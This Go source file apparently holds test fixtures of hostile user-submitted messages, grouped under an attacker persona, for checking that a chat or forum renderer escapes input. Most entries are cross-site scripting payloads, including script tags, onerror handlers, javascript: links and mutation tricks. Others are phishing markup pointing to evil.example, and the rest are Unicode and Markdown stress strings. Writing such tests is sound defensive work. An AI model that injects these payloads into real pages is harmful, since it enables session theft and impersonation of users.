// Package mallory has what Mallory writes, who wants to run a script in other people's
// pages, to break how they look, or to pass for somebody else. For tests.
package mallory

import "strings"

// Text is something a person can send: 1 to 4,000 characters.
type Text struct{ Name, Text string }

// Ran is what a text's script sets to 1 in the page, should it run.
const Ran = "__ran"

// Texts are to be shown as they are, by whatever shows text: a message, a topic, a
// name, what is answered, searched or being written.
var Texts = []Text{
	{"a script", `<script>__ran=1</script>`},
	{"a script that closes what is around it", `</p></div></textarea></title></style></script><script>__ran=1</script>`},
	{"an image that fails", `<img src=x onerror=__ran=1>`},
	{"an attribute that is left", `"><img src=x onerror=__ran=1>' onmouseover='__ran=1`},
	{"a drawing", `<svg/onload=__ran=1><svg><a xlink:href="javascript:__ran=1"><text y=20>x</text></a></svg>`},
	{"what opens by itself", `<details open ontoggle=__ran=1><input autofocus onfocus=__ran=1>`},
	{"a frame", `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe><object data="javascript:__ran=1"><embed src="javascript:__ran=1">`},
	{"a form", `<form action=https://evil.example><input name=name><button>Join</button></form>`},
	{"another base", `<base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>`},
	{"a style", `<style>*{display:none}</style><div style="position:fixed;inset:0;background:red">over all</div>`},
	{"comments and the like", `<!-- --><script>__ran=1</script><![CDATA[<script>__ran=1</script>]]><?php __ran=1 ?><plaintext>`},
	{"what changes when it is parsed again", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__ran=1&gt;">`},
	{"another end without script", `<noscript><p title="</noscript><img src=x onerror=__ran=1>">`},
	{"templates", `{{constructor.constructor('__ran=1')()}} ${__ran=1} <%= __ran=1 %> #{__ran=1}`},
	{"entities", `&lt;img src=x onerror=__ran=1&gt; &#60;script&#62;__ran=1&#60;/script&#62;`},

	{"links that run", `[x](javascript:__ran=1) [y](JaVaScRiPt&colon;__ran=1) [z](java&#x0a;script:__ran=1) <javascript:__ran=1>`},
	{"links that run, hidden", "[x](\u0001javascript:__ran=1) [y](%6aavascript:__ran=1) [z](\tjavascript:__ran=1) [w](vbscript:__ran=1)"},
	{"links to data", `[x](data:text/html,<script>parent.__ran=1</script>) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcmFuPTEiPg==)`},
	{"images that run", `![x](javascript:__ran=1) ![y](https://evil.example/"onerror="__ran=1)`},
	{"addresses with quotes", `https://evil.example/"onmouseover="__ran=1 <https://evil.example/'><script>__ran=1</script>>`},
	{"links within this server", `[x](/session) [y](//evil.example) [z](\\evil.example) [w](?q=<script>)`},
	{"links that pretend", `[https://example.org](https://evil.example) https://example.org@evil.example`},

	{"code that is markup", "```html\n<script>__ran=1</script>\n```\n`<img src=x onerror=__ran=1>`"},
	{"a language that is markup", "```\"><script>__ran=1</script>\nx\n```"},
	{"Markdown broken off", "**bold *both `code\n[link](https://example.org\n> quote\n- [ ] list\n```"},
	{"quotes within quotes", strings.Repeat(">", 500) + " deep"},
	{"lists within lists", strings.Repeat("- ", 500) + "deep"},
	{"quotes within lists", strings.Repeat("- > ", 250) + "deep"},
	{"links within links", strings.Repeat("[", 400) + "x](https://example.org)](https://example.org)"},
	{"a table wider than a page", "|" + strings.Repeat(" column |", 60) + "\n|" + strings.Repeat("---|", 60)},
	{"a line of code wider than a page", "```\n" + strings.Repeat("y", 2000) + "\n```"},

	{"4,000 characters without a space", strings.Repeat("x", 4000)},
	{"4,000 of the widest", strings.Repeat("\ufdfd", 4000)},
	{"an address of 4,000 characters", "https://example.org/" + strings.Repeat("y", 3980)},
	{"30 emoji in a row", strings.Repeat("🙌", 30)},
	{"emoji of many parts", strings.Repeat("👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f🇫🇷", 20)},
	{"marks piled onto a letter", "Z" + strings.Repeat("\u0301\u0310\u0489\u0336\u0323", 60) + "algo"},
	{"400 lines", strings.Repeat("x\n\n", 400) + "x"},

	{"Arabic", "مرحبا Ada, 12:30 (ليلى) https://example.org/ل"},
	{"turns of direction", "\u202eabc txt.exe \u202d \u2066 \u2067 \u2068 \u202a \u202b"},
	{"turns without end", strings.Repeat("\u202e\u2067", 1000) + "x"},
	{"what draws nothing", strings.Repeat("\u200b\u200d\u2060\ufeff\u00ad\u3164\u2800", 200) + "x"},
	{"ends of lines", "a\rb\u0085c\u2028d\u2029e\u000bf\u000cg"},
	{"controls", "a\u0000b\u0001c\u001b[31md\u007fe\u009bf\ufffeg\ufffd"},
	{"private and unassigned", "\ue000\uf8ff\u0378\U0010fffd\U0001242a\ua9c5"},
	{"mentions", "@everyone @<img src=x onerror=__ran=1> @Ada\u202e @\u0410da"},
	{"a command", "/me <img src=x onerror=__ran=1>\u202e"},
	{"emoji by name", ":<script>: :tada: :constructor: :__proto__:"},
}
